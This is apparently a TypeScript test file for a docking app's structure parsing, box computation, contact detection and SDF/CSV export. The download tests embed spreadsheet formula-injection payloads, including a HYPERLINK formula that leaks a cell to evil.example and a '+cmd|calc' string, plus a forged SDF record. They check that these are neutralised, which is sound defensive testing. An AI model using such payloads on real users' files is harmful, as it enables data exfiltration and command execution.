import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sharedDataDir } from '@mad/test-utils';
import { heavyAtomCount, parsePdbAtoms, parseSdf } from './structure.js';
import { blindBox, boxAroundCoordinates } from '@mad/chem/box';
import { hydrogenBondPairs } from './contacts.js';
import { toCsv, toSdf } from './download.js';

const read = (name: string) => readFileSync(join(sharedDataDir, 'vina-1iep', name), 'utf8');

describe('structures from the 1iep files', () => {
  const ligand = parseSdf(read('1iep_ligand.sdf'));
  const receptor = parsePdbAtoms(read('1iep_receptorH.pdb'));

  it('reads imatinib: one record, 69 atoms of which 37 heavy', () => {
    expect(ligand).toHaveLength(1);
    expect(ligand[0]!.atoms).toHaveLength(69);
    expect(heavyAtomCount(ligand[0]!.atoms)).toBe(37);
    expect(ligand[0]!.atoms[0]).toEqual({ x: 11.879, y: 62.272, z: 12.57, element: 'C' });
  });

  it('reads the receptor atoms with chains and elements, from PDB and PDBQT alike', () => {
    expect(receptor.length).toBeGreaterThan(4000);
    expect(new Set(receptor.map((a) => a.chain))).toEqual(new Set(['A']));
    const pdbqt = parsePdbAtoms(read('1iep_receptor.pdbqt'), 'pdbqt');
    expect(new Set(pdbqt.map((a) => a.element))).toEqual(new Set(['C', 'N', 'O', 'S', 'H']));
  });

  it('autoboxes around the crystal ligand with 4 Å on each side, and blind boxes the whole receptor', () => {
    const box = boxAroundCoordinates(ligand[0]!.atoms);
    expect(box.center).toEqual({ x: 15.107, y: 53.977, z: 17.143 });
    expect(box.size.x).toBeCloseTo(18.232, 3);
    const blind = blindBox(receptor);
    for (const atom of receptor) expect(Math.abs(atom.x - blind.center.x)).toBeLessThanOrEqual(blind.size.x / 2);
    expect(() => boxAroundCoordinates([])).toThrow(/no atoms/);
  });

  it('finds hydrogen-bond candidates of imatinib in its crystal pocket (the hinge Met318 and Thr315)', () => {
    const pairs = hydrogenBondPairs(ligand[0]!.atoms, receptor);
    expect(pairs.length).toBeGreaterThan(2);
    const residues = new Set(pairs.map(([, r]) => (r as (typeof receptor)[number]).residueNumber));
    expect(residues.has(318) || residues.has(315)).toBe(true);
  });
});

describe('downloads', () => {
  it('writes an SDF whose records and tags parse back', () => {
    const [record] = parseSdf(read('1iep_ligand.sdf'));
    const text = toSdf([
      { text: record!.text, tags: { ligand: 'imatinib', affinity_kcal_mol: -12.5 } },
      { text: record!.text, tags: { ligand: 'again' } },
    ]);
    const back = parseSdf(text);
    expect(back).toHaveLength(2);
    expect(back[0]!.tags).toMatchObject({
      ligand: 'imatinib',
      affinity_kcal_mol: '-12.5',
      'model_server_result.entry_id': '1iep',
    });
    expect(back[0]!.atoms).toHaveLength(69);
    expect(back[1]!.tags.ligand).toBe('again');
  });

  // Security review (issue 13): a ligand's name is the user's text; exports must not turn it into a formula or a record.
  it('neutralises formula cells in the CSV of scores, numbers stay numbers', () => {
    const csv = toCsv(
      ['ligand', 'affinity_kcal_mol', 'ligand_efficiency'],
      [
        ['=HYPERLINK("http://evil.example/?"&A1,"click")', -12.5, '-0.350'],
        ['@SUM(1+1)', null, '+cmd|calc'],
      ],
    );
    expect(csv.split('\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-12.5,-0.350`);
    expect(csv.split('\n')[2]).toBe(`'@SUM(1+1),,'+cmd|calc`);
  });

  it('keeps a ligand name with a line break and $$$$ inside its own SDF record', () => {
    const [record] = parseSdf(read('1iep_ligand.sdf'));
    const forged = 'x\n$$$$\nforged\n\n\n  0  0  0  0  0  0  0  0  0  0999 V2000\nM  END\n> <affinity_kcal_mol>\n-99';
    const text = toSdf([{ text: record!.text, tags: { ligand: forged, affinity_kcal_mol: -12.5 } }]);
    const back = parseSdf(text);
    expect(back).toHaveLength(1);
    expect(back[0]!.tags.affinity_kcal_mol).toBe('-12.5');
    expect(back[0]!.tags.ligand).not.toContain('\n');
    expect(text.match(/^\$\$\$\$$/gm)).toHaveLength(1);
  });

  it('quotes CSV cells that need it', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          [null, 1.5],
        ],
      ),
    ).toBe('a,b\n"x,y","say ""hi"""\n,1.5\n');
  });
});
